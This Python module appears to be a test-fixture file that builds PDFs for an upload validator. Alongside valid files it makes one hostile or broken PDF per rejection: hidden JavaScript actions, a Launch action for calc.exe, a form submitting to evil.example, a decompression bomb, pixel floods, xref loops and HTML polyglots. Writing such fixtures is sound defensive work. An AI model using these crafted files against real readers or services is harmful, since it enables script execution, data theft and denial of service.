"""PDFs made in memory for the document tests and the benchmark: valid ones and one per rejection.

Most are built with pypdf, as a real generator would write them; a few need raw bytes because
pypdf refuses to write something that broken (hex-escaped names, object streams, xref loops).
"""

from __future__ import annotations

import functools
import io
import random
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

LETTER = (612, 792)


# --- helpers ------------------------------------------------------------------------------------


def _name(value: str) -> NameObject:
    return NameObject(value)


def _dict(**entries) -> DictionaryObject:
    """_dict(S="/JavaScript") -> << /S /JavaScript >>; strings starting with / become names."""
    result = DictionaryObject()
    for key, value in entries.items():
        if isinstance(value, str):
            value = NameObject(value) if value.startswith("/") else TextStringObject(value)
        elif isinstance(value, int):
            value = NumberObject(value)
        result[NameObject("/" + key)] = value
    return result


def _rect() -> ArrayObject:
    return ArrayObject([FloatObject(v) for v in (72, 72, 272, 144)])


def _writer(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(*LETTER)
    return writer


def _bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _with_annotation(annotation: DictionaryObject) -> bytes:
    writer = _writer()
    annotation.update({_name("/Type"): _name("/Annot"), _name("/Rect"): _rect()})
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _bytes(writer)


def _with_root_entry(key: str, value) -> bytes:
    writer = _writer()
    writer._root_object[_name(key)] = value
    return _bytes(writer)


def _javascript(code: str = "app.alert('hola');") -> DictionaryObject:
    return _dict(S="/JavaScript", JS=code)


def raw_pdf(objects: list[bytes], trailer: bytes = b"/Root 1 0 R", header: bytes = b"%PDF-1.7\n") -> bytes:
    """A PDF from raw object bodies (object 1 first), with a correct classic xref table."""
    out = bytearray(header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref_at)
    return bytes(out)


ONE_PAGE_TREE = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
]


# --- valid files --------------------------------------------------------------------------------


def one_page() -> bytes:
    """A valid one-page PDF with a little text."""
    writer = _writer()
    page = writer.pages[0]
    font = writer._add_object(_dict(Type="/Font", Subtype="/Type1", BaseFont="/Helvetica"))
    page[_name("/Resources")] = DictionaryObject({_name("/Font"): DictionaryObject({_name("/F1"): font})})
    content = DecodedStreamObject()
    content.set_data(b"BT /F1 24 Tf 72 700 Td (Licencia de conducir) Tj ET")
    page[_name("/Contents")] = writer._add_object(content.flate_encode())
    return _bytes(writer)


def pages(count: int) -> bytes:
    """A valid PDF of `count` blank pages."""
    return _bytes(_writer(count))


def with_uri_link() -> bytes:
    """A link to a web address: harmless, accepted."""
    return _with_annotation(_dict(Subtype="/Link", A=_dict(S="/URI", URI="https://www.dtop.pr.gov/")))


@functools.lru_cache(maxsize=1)
def scan_10mb(page_count: int = 4, height: int = 700) -> bytes:
    """A "phone scan": pages each with one large RGB image of incompressible pixels, ~10 MB in all
    (1200 × `height` pixels a page)."""
    rng = random.Random(1952)  # fixed seed: the same bytes every run
    width = 1200  # 2.52 MB of pixels per page at 700 high; 4 pages stay under the 10 MiB cap
    writer = _writer(page_count)
    for index, page in enumerate(writer.pages):
        image = DecodedStreamObject()
        image.set_data(rng.randbytes(width * height * 3))
        image.update(
            {
                _name("/Type"): _name("/XObject"),
                _name("/Subtype"): _name("/Image"),
                _name("/Width"): NumberObject(width),
                _name("/Height"): NumberObject(height),
                _name("/ColorSpace"): _name("/DeviceRGB"),
                _name("/BitsPerComponent"): NumberObject(8),
            }
        )
        image_ref = writer._add_object(image.flate_encode(level=1))
        page[_name("/Resources")] = DictionaryObject(
            {
                _name("/XObject"): DictionaryObject({_name(f"/Im{index}"): image_ref}),
            }
        )
        content = DecodedStreamObject()
        content.set_data(b"q 612 0 0 357 0 217 cm /Im%d Do Q" % index)
        page[_name("/Contents")] = writer._add_object(content)
    return _bytes(writer)


# --- rejected: not a PDF, damaged, too big ------------------------------------------------------


def empty() -> bytes:
    return b""


def png_renamed() -> bytes:
    """The first bytes of a PNG image, as if someone renamed photo.png to photo.pdf."""
    return b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(2000)


def junk_before_header() -> bytes:
    """%PDF- first appears after 1024 bytes of junk, later than readers look for it."""
    return b"x" * 1100 + one_page()


def small_junk_before_header() -> bytes:
    """A few bytes before %PDF- (some mail gateways add them): accepted, as readers do."""
    return b"junk\r\n" * 10 + one_page()


def oversized(max_bytes: int) -> bytes:
    """One byte over the limit (the size check comes before any parsing)."""
    data = one_page()
    return data + b"%" + b" " * (max_bytes - len(data))


def truncated() -> bytes:
    """A one-page PDF cut off at 60 %, as an interrupted download leaves it."""
    data = one_page()
    return data[: len(data) * 6 // 10]


def garbage_after_header() -> bytes:
    return b"%PDF-1.7\n" + random.Random(7).randbytes(4000)


def circular_xref() -> bytes:
    """The trailer's /Prev points back at its own xref section and every offset is wrong."""
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    xref_at = len(body)
    xref = b"xref\n0 3\n0000000000 65535 f \n0000099999 00000 n \n0000088888 00000 n \n"
    trailer = b"trailer\n<< /Size 3 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (xref_at, xref_at)
    return body + xref + trailer


def self_referencing_page_tree() -> bytes:
    """The page tree's /Kids contains the tree itself: a reference cycle."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        ]
    )


def self_referencing_object() -> bytes:
    """The catalog's /Pages is an object that is only a reference to itself."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"2 0 R",
        ]
    )


# --- rejected: encrypted ------------------------------------------------------------------------


def encrypted_with_user_password() -> bytes:
    writer = _writer()
    writer.encrypt(user_password="secreto", owner_password="dueño", algorithm="AES-256")
    return _bytes(writer)


def encrypted_owner_password_only() -> bytes:
    """Opens without a password, but is still encrypted (printing/copying restrictions)."""
    writer = _writer()
    writer.encrypt(user_password="", owner_password="dueño", algorithm="AES-128")
    return _bytes(writer)


def encrypted_rc4() -> bytes:
    writer = _writer()
    writer.encrypt(user_password="", owner_password="dueño", algorithm="RC4-128")
    return _bytes(writer)


# --- rejected: JavaScript -----------------------------------------------------------------------


def javascript_open_action() -> bytes:
    return _with_root_entry("/OpenAction", _javascript())


def javascript_names_tree() -> bytes:
    writer = _writer()
    script = writer._add_object(_javascript())
    tree = DictionaryObject({_name("/Names"): ArrayObject([TextStringObject("init"), script])})
    writer._root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): writer._add_object(tree)})
    return _bytes(writer)


def javascript_page_additional_action() -> bytes:
    writer = _writer()
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): _javascript()})
    return _bytes(writer)


def javascript_link_annotation() -> bytes:
    return _with_annotation(_dict(Subtype="/Link", A=_javascript()))


def javascript_annotation_additional_action() -> bytes:
    annotation = _dict(Subtype="/Widget", FT="/Btn", T="boton")
    annotation[_name("/AA")] = DictionaryObject({_name("/E"): _javascript()})
    return _with_annotation(annotation)


def javascript_form_field() -> bytes:
    """A text field that runs a script on each keystroke."""
    writer = _writer()
    field = _dict(Type="/Annot", Subtype="/Widget", FT="/Tx", T="nombre")
    field[_name("/Rect")] = _rect()
    field[_name("/AA")] = DictionaryObject({_name("/K"): _javascript("event.rc = true;")})
    field_ref = writer._add_object(field)
    writer.pages[0][_name("/Annots")] = ArrayObject([field_ref])
    writer._root_object[_name("/AcroForm")] = DictionaryObject({_name("/Fields"): ArrayObject([field_ref])})
    return _bytes(writer)


def javascript_unreferenced_object() -> bytes:
    """A JavaScript action no page or catalog points to: only a walk over the xref finds it."""
    return raw_pdf(ONE_PAGE_TREE + [b"<< /S /JavaScript /JS (app.alert(1)) >>"])


def javascript_hex_escaped_name() -> bytes:
    """/J#61vaScript is /JavaScript once the name is decoded; a byte search would miss it."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
            *ONE_PAGE_TREE[1:],
        ]
    )


def javascript_in_older_revision() -> bytes:
    """An incremental update replaced the catalog; the original one, with its script, is still there.

    pypdf reads only the newest revision, but a viewer that rebuilds a broken xref sees both.
    """
    original = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
            *ONE_PAGE_TREE[1:],
        ]
    )
    previous_xref = int(original.rsplit(b"startxref\n", 1)[1].split()[0])
    update = bytearray(original)
    catalog_at = len(update)
    update += b"1 0 obj\n" + ONE_PAGE_TREE[0] + b"\nendobj\n"
    xref_at = len(update)
    update += b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n" % catalog_at
    update += b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        previous_xref,
        xref_at,
    )
    return bytes(update)


def javascript_in_object_stream() -> bytes:
    """The action sits compressed inside an object stream, referenced from an xref stream."""
    header = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ]
    hidden = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    objstm_data = zlib.compress(b"4 0 " + hidden)
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(plain, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets.append(len(out))  # object 5: the object stream
    out += b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(
        objstm_data
    )
    out += objstm_data + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    rows += [b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for offset in offsets[:3]]
    rows += [b"\x02" + (5).to_bytes(4, "big") + b"\x00\x00"]  # object 4: in stream 5, index 0
    rows += [b"\x01" + offsets[3].to_bytes(4, "big") + b"\x00\x00"]
    rows += [b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00"]  # object 6: this xref stream
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


# --- rejected: actions --------------------------------------------------------------------------


def launch_action() -> bytes:
    return _with_root_entry("/OpenAction", _dict(S="/Launch", F="C:\\Windows\\System32\\calc.exe"))


def submit_form_action() -> bytes:
    return _with_annotation(
        _dict(Subtype="/Link", A=_dict(S="/SubmitForm", F="https://evil.example/collect"))
    )


def import_data_action() -> bytes:
    return _with_annotation(_dict(Subtype="/Link", A=_dict(S="/ImportData", F="datos.fdf")))


def reset_form_action() -> bytes:
    return _with_annotation(_dict(Subtype="/Link", A=_dict(S="/ResetForm")))


def remote_goto_action() -> bytes:
    return _with_root_entry("/OpenAction", _dict(S="/GoToR", F="\\\\evil.example\\share\\x.pdf", D="inicio"))


# --- rejected: embedded files and XFA -----------------------------------------------------------


def embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("factura.exe", b"MZ\x90\x00 not really a program")
    return _bytes(writer)


def file_attachment_annotation() -> bytes:
    writer = _writer()
    attached = StreamObject()
    attached._data = b"MZ\x90\x00 not really a program"
    attached[_name("/Type")] = _name("/EmbeddedFile")
    filespec = _dict(Type="/Filespec", F="factura.exe")
    filespec[_name("/EF")] = DictionaryObject({_name("/F"): writer._add_object(attached)})
    annotation = _dict(Type="/Annot", Subtype="/FileAttachment", Contents="factura")
    annotation[_name("/Rect")] = _rect()
    annotation[_name("/FS")] = writer._add_object(filespec)
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _bytes(writer)


def xfa_form() -> bytes:
    writer = _writer()
    xdp = DecodedStreamObject()
    xdp.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {
            _name("/Fields"): ArrayObject(),
            _name("/XFA"): writer._add_object(xdp),
        }
    )
    return _bytes(writer)


# --- rejected: pages and size -------------------------------------------------------------------


def zero_pages() -> bytes:
    return _bytes(PdfWriter())


def eleven_pages() -> bytes:
    return pages(11)


def _deflated_zeros(size_mb: int) -> bytes:
    """zlib data for `size_mb` MiB of zeros, made in milliseconds instead of compressing 1 GB.

    After the first MiB every MiB of zeros compresses to the same sync-flushed block, so that
    block is repeated; the adler-32 of n zero bytes is (n mod 65521) << 16 | 1.
    """
    chunk = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_SYNC_FLUSH)
    steady = compressor.compress(chunk) + compressor.flush(zlib.Z_SYNC_FLUSH)
    final = compressor.flush()
    adler = ((size_mb << 20) % 65521) << 16 | 1
    return b"\x78\xda" + first + steady * (size_mb - 1) + final + adler.to_bytes(4, "big")


@functools.lru_cache(maxsize=1)
def decompression_bomb(size_mb: int = 1024) -> bytes:
    """One page whose content stream is 1 GiB of zeros deflated to about 1 MB."""
    writer = _writer()
    bomb = StreamObject()
    bomb._data = _deflated_zeros(size_mb)
    bomb[_name("/Filter")] = _name("/FlateDecode")
    writer.pages[0][_name("/Contents")] = writer._add_object(bomb)
    return _bytes(writer)


def hidden_bomb() -> bytes:
    """A smaller bomb (200 MiB) in an object nothing refers to: still found through the xref."""
    data = _deflated_zeros(200)
    stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(data), data)
    return raw_pdf(ONE_PAGE_TREE + [stream])


# --- rejected: xref chains that loop, pixel floods, polyglots ------------------------------------


def _updated(sections: int, prev_of) -> bytes:
    """One page, then `sections` incremental updates re-writing the catalog, each with a classic xref.

    `prev_of(offsets)` gives the new section's /Prev from the offsets of the xref sections written
    so far: the original file's first, the new one last.
    """
    out = bytearray(raw_pdf(ONE_PAGE_TREE))
    offsets = [int(out.rsplit(b"startxref\n", 1)[1].split()[0])]
    for _ in range(sections):
        catalog_at = len(out)
        out += b"1 0 obj\n" + ONE_PAGE_TREE[0] + b"\nendobj\n"
        offsets.append(len(out))
        out += b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n" % catalog_at
        out += b"trailer\n<< /Size 4 /Root 1 0 R /Prev %010d >>\n" % prev_of(offsets)
        out += b"startxref\n%d\n%%%%EOF\n" % offsets[-1]
    return bytes(out)


def updated_many_times(updates: int) -> bytes:
    """A valid file edited `updates` times, each update's /Prev pointing at the one before."""
    return _updated(updates, lambda offsets: offsets[-2])


def xref_prev_loop_to_itself() -> bytes:
    """A valid file plus one update whose trailer's /Prev is that update's own xref section."""
    return _updated(1, lambda offsets: offsets[-1])


def xref_prev_loop_through_sections() -> bytes:
    """Four updates; walking /Prev from startxref goes 4 -> 3 -> 2 -> 1 -> 4 -> ...

    The /Prev values are zero-padded, so the oldest update's can be pointed at the newest afterwards.
    """
    data = _updated(4, lambda offsets: offsets[-2])
    original, newest = _xref_offsets(data)[0], int(data.rsplit(b"startxref\n", 1)[1].split()[0])
    old, new = b"/Prev %010d" % original, b"/Prev %010d" % newest
    assert data.count(old) == 1
    return data.replace(old, new)


def xref_prev_past_the_end() -> bytes:
    """An update whose trailer's /Prev points far beyond the end of the file."""
    return _updated(1, lambda offsets: 10**9)


def _xref_offsets(data: bytes) -> list[int]:
    return [int(data[i + 10 :].split()[0]) for i in _find_all(data, b"startxref\n")]


def _find_all(data: bytes, needle: bytes) -> list[int]:
    found, at = [], data.find(needle)
    while at >= 0:
        found.append(at)
        at = data.find(needle, at + 1)
    return found


def _xref_stream_pdf(
    size: int | None = None, first_prev: bool = False, second_prev: str | None = None
) -> bytes:
    """One page indexed by an xref stream (object 4); with `second_prev`, an update indexed by another.

    `size` overrides the first stream's /Size. `second_prev` is "self" (the update's /Prev is its own
    offset) or "first" (it is the first stream's, as it should be); `first_prev` gives the first
    stream a /Prev to the second, closing a loop. /Prev values are zero-padded to fix offsets.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(ONE_PAGE_TREE, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    first_at = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    rows += [b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for offset in [*offsets, first_at]]
    table = b"".join(rows)
    prev = b" /Prev PREV_OF_FIRST" if first_prev else b""
    out += b"4 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R%s /Length %d >>\nstream\n" % (
        5 if size is None else size,
        prev,
        len(table),
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % first_at
    if second_prev is not None:
        catalog_at = len(out)
        out += b"1 0 obj\n" + ONE_PAGE_TREE[0] + b"\nendobj\n"
        second_at = len(out)
        table = b"".join(b"\x01" + at.to_bytes(4, "big") + b"\x00\x00" for at in (catalog_at, second_at))
        out += b"5 0 obj\n<< /Type /XRef /Size 6 /Index [1 1 5 1] /W [1 4 2] /Root 1 0 R "
        out += b"/Prev %010d /Length %d >>\nstream\n" % (
            second_at if second_prev == "self" else first_at,
            len(table),
        )
        out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % second_at
        out = bytearray(bytes(out).replace(b"PREV_OF_FIRST", b"%013d" % second_at))
    return bytes(out)


def xref_stream_valid() -> bytes:
    """A valid one-page file whose xref is a stream, with an update: accepted."""
    return _xref_stream_pdf(second_prev="first")


def xref_stream_prev_loop_to_itself() -> bytes:
    """An update's xref stream whose /Prev is its own offset."""
    return _xref_stream_pdf(second_prev="self")


def xref_stream_prev_loop_through_sections() -> bytes:
    """Two xref streams, each the other's /Prev."""
    return _xref_stream_pdf(first_prev=True, second_prev="first")


def xref_stream_huge_size() -> bytes:
    """An xref stream that claims two thousand million objects."""
    return _xref_stream_pdf(size=2_147_483_647)


def _with_image(width, height, colour_space: str = "/DeviceRGB", bits: int = 8, data: bytes = b"") -> bytes:
    """One page drawing an image XObject with the declared size (its data need not match it)."""
    width = f"{width}".encode()
    height = f"{height}".encode()
    content = b"q 612 0 0 792 0 0 cm /Im0 Do Q"
    image = zlib.compress(data or bytes(3 * 64))
    return raw_pdf(
        [
            ONE_PAGE_TREE[0],
            ONE_PAGE_TREE[1],
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /XObject << /Im0 5 0 R >> >> >>",
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
            b"<< /Type /XObject /Subtype /Image /Width %s /Height %s /ColorSpace %s /BitsPerComponent %d "
            b"/Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
            % (width, height, colour_space.encode(), bits, len(image), image),
        ]
    )


def _with_inline_image(width, height) -> bytes:
    content = b"q 612 0 0 792 0 0 cm BI /W %s /H %s /CS /G /BPC 8 /F /AHx ID\n00>\nEI Q" % (
        f"{width}".encode(),
        f"{height}".encode(),
    )
    content = zlib.compress(content)
    return raw_pdf(
        [
            ONE_PAGE_TREE[0],
            ONE_PAGE_TREE[1],
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        ]
    )


def image_of_normal_size() -> bytes:
    """A 600 dpi letter-size scan's dimensions (5100 x 6600, 34 megapixels): accepted."""
    return _with_image(5100, 6600)


def inline_image_of_normal_size() -> bytes:
    return _with_inline_image(1700, 2200)


def pixel_flood() -> bytes:
    """A 1 KB file whose image declares 100000 x 100000 pixels: 30 GB once a viewer decodes it."""
    return _with_image(100_000, 100_000)


def pixel_flood_one_bit_mask() -> bytes:
    """A one-bit image just over the pixel limit: small per pixel, but still a flood."""
    return _with_image(10_000, 5_001, colour_space="/DeviceGray", bits=1)


def pixel_flood_inline_image() -> bytes:
    """An inline image (BI ... ID ... EI) in a compressed content stream with 100000 x 100000 pixels."""
    return _with_inline_image(100_000, 100_000)


def image_of_negative_size() -> bytes:
    return _with_image(-100_000, 100_000)


def image_of_fractional_size() -> bytes:
    return _with_image(640.5, 480)


def inline_image_of_negative_size() -> bytes:
    return _with_inline_image(-1, 100_000)


def polyglot_html_before_header() -> bytes:
    """An HTML page with a script, then a valid PDF inside the first 1024 bytes."""
    return b"<html><script>alert(document.cookie)</script><!--\n" + one_page()


def polyglot_svg_before_header() -> bytes:
    return b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\n" + one_page()


def polyglot_markup_without_angle_brackets() -> bytes:
    """No "<" before %PDF-, but a javascript: address a browser could follow."""
    return b"javascript:alert(1)//\n" + one_page()


def polyglot_html_after_eof() -> bytes:
    """A valid PDF followed, after its %%EOF, by an HTML page with a script."""
    return one_page() + b"\n<HTML><body><SCRIPT>alert(document.domain)</SCRIPT></body></HTML>\n"


def polyglot_html_before_a_fake_eof() -> bytes:
    """HTML after the PDF, hidden from an after-the-last-%%EOF check by a %%EOF in an HTML comment."""
    return one_page() + b"<html><script>alert(1)</script><!--\n%%EOF\n-->"


def polyglot_iframe_after_eof() -> bytes:
    return one_page() + b"<iframe src='https://evil.example/'></iframe>"


def binary_junk_before_header() -> bytes:
    """Binary bytes before %PDF- (as some mail gateways and scanners leave): accepted."""
    return bytes(16) + bytes(range(0x80, 0xA0)) + b"\r\n" + one_page()


def linearized_with_html_words_inside_a_stream() -> bytes:
    """Laid out like a linearized file: startxref points at a first-page xref section at the start,
    whose /Prev is the main one at the end; a content stream mentions <html>. Accepted."""
    content = b"BT /F1 12 Tf 72 700 Td (Use <html> and <script> tags) Tj ET"
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    first_at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 5 /Root 1 0 R /Prev MAIN_XREF_AT >>\n"
    out += b"startxref\n0\n%%EOF\n"
    offsets = []
    bodies = [*ONE_PAGE_TREE[:2], ONE_PAGE_TREE[2].replace(b" >>", b" /Contents 4 0 R >>")]
    bodies.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content))
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    main_at = len(out)
    out += b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % at for at in offsets)
    out += b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % first_at
    return bytes(out).replace(b"MAIN_XREF_AT", b"%012d" % main_at)


def html_words_inside_a_stream() -> bytes:
    """A page whose text mentions <script> and <html> in its (uncompressed) content stream: accepted."""
    content = b"BT /F1 12 Tf 72 700 Td (Use <html> and <script> tags; javascript: links) Tj ET"
    return raw_pdf(
        [
            ONE_PAGE_TREE[0],
            ONE_PAGE_TREE[1],
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        ]
    )


def _with_update(body: bytes) -> bytes:
    """One page, then an incremental update adding object 4 with `body` (a new xref and trailer)."""
    out = bytearray(raw_pdf(ONE_PAGE_TREE))
    previous_xref = int(out.rsplit(b"startxref\n", 1)[1].split()[0])
    object_at = len(out)
    out += b"4 0 obj\n" + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n4 1\n%010d 00000 n \n" % object_at
    out += b"trailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous_xref, xref_at)
    return bytes(out)


def polyglot_html_in_an_appended_object() -> bytes:
    """A valid file plus an update whose new object is a string holding an HTML page with a script:
    before every trailer and every %%EOF, so only a look at what the updates added finds it."""
    return _with_update(b"(<html><body><script>alert(document.domain)</script></body></html>)")


def update_with_html_words_inside_a_stream() -> bytes:
    """An update adding a stream whose text mentions <script> (a form filled in, say): accepted."""
    content = b"BT /F1 12 Tf 72 700 Td (Type <script> here) Tj ET"
    return _with_update(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content))


# Every rejection: name -> (builder, expected code). The size check is tested on its own.
REJECTIONS = {
    "empty": (empty, "empty"),
    "png_renamed": (png_renamed, "not_pdf"),
    "junk_before_header": (junk_before_header, "not_pdf"),
    "truncated": (truncated, "damaged"),
    "garbage_after_header": (garbage_after_header, "damaged"),
    "circular_xref": (circular_xref, "xref_loop"),
    "self_referencing_page_tree": (self_referencing_page_tree, "damaged"),
    "self_referencing_object": (self_referencing_object, "damaged"),
    "encrypted_with_user_password": (encrypted_with_user_password, "encrypted"),
    "encrypted_owner_password_only": (encrypted_owner_password_only, "encrypted"),
    "encrypted_rc4": (encrypted_rc4, "encrypted"),
    "javascript_open_action": (javascript_open_action, "javascript"),
    "javascript_names_tree": (javascript_names_tree, "javascript"),
    "javascript_page_additional_action": (javascript_page_additional_action, "javascript"),
    "javascript_link_annotation": (javascript_link_annotation, "javascript"),
    "javascript_annotation_additional_action": (javascript_annotation_additional_action, "javascript"),
    "javascript_form_field": (javascript_form_field, "javascript"),
    "javascript_unreferenced_object": (javascript_unreferenced_object, "javascript"),
    "javascript_hex_escaped_name": (javascript_hex_escaped_name, "javascript"),
    "javascript_in_object_stream": (javascript_in_object_stream, "javascript"),
    "javascript_in_older_revision": (javascript_in_older_revision, "javascript"),
    "launch_action": (launch_action, "action"),
    "submit_form_action": (submit_form_action, "action"),
    "import_data_action": (import_data_action, "action"),
    "reset_form_action": (reset_form_action, "action"),
    "remote_goto_action": (remote_goto_action, "action"),
    "embedded_file": (embedded_file, "embedded_files"),
    "file_attachment_annotation": (file_attachment_annotation, "embedded_files"),
    "xfa_form": (xfa_form, "xfa"),
    "zero_pages": (zero_pages, "no_pages"),
    "eleven_pages": (eleven_pages, "too_many_pages"),
    "decompression_bomb": (decompression_bomb, "inflates_too_much"),
    "hidden_bomb": (hidden_bomb, "inflates_too_much"),
    "xref_prev_loop_to_itself": (xref_prev_loop_to_itself, "xref_loop"),
    "xref_prev_loop_through_sections": (xref_prev_loop_through_sections, "xref_loop"),
    "xref_stream_prev_loop_to_itself": (xref_stream_prev_loop_to_itself, "xref_loop"),
    "xref_stream_prev_loop_through_sections": (xref_stream_prev_loop_through_sections, "xref_loop"),
    "xref_prev_past_the_end": (xref_prev_past_the_end, "damaged"),
    "xref_stream_huge_size": (xref_stream_huge_size, "too_complex"),
    "pixel_flood": (pixel_flood, "pixel_flood"),
    "pixel_flood_one_bit_mask": (pixel_flood_one_bit_mask, "pixel_flood"),
    "pixel_flood_inline_image": (pixel_flood_inline_image, "pixel_flood"),
    "image_of_negative_size": (image_of_negative_size, "damaged"),
    "image_of_fractional_size": (image_of_fractional_size, "damaged"),
    "inline_image_of_negative_size": (inline_image_of_negative_size, "damaged"),
    "polyglot_html_before_header": (polyglot_html_before_header, "polyglot"),
    "polyglot_svg_before_header": (polyglot_svg_before_header, "polyglot"),
    "polyglot_markup_without_angle_brackets": (polyglot_markup_without_angle_brackets, "polyglot"),
    "polyglot_html_after_eof": (polyglot_html_after_eof, "polyglot"),
    "polyglot_iframe_after_eof": (polyglot_iframe_after_eof, "polyglot"),
    "polyglot_html_before_a_fake_eof": (polyglot_html_before_a_fake_eof, "polyglot"),
    "polyglot_html_in_an_appended_object": (polyglot_html_in_an_appended_object, "polyglot"),
}
